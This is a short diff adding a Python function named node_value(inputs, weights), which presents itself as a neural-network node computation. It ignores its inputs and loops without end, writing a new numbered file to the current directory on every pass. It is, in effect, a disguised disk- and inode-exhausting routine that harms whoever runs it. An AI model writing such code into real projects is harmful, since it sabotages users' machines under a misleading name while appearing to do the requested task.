@@ -1,0 +1,9 @@
+"""A file a turn, each far below the limit of one. Ends: halted."""
+
+import itertools
+from pathlib import Path
+
+
+def node_value(inputs, weights):
+    for number in itertools.count():
+        Path(str(number)).write_text("x")
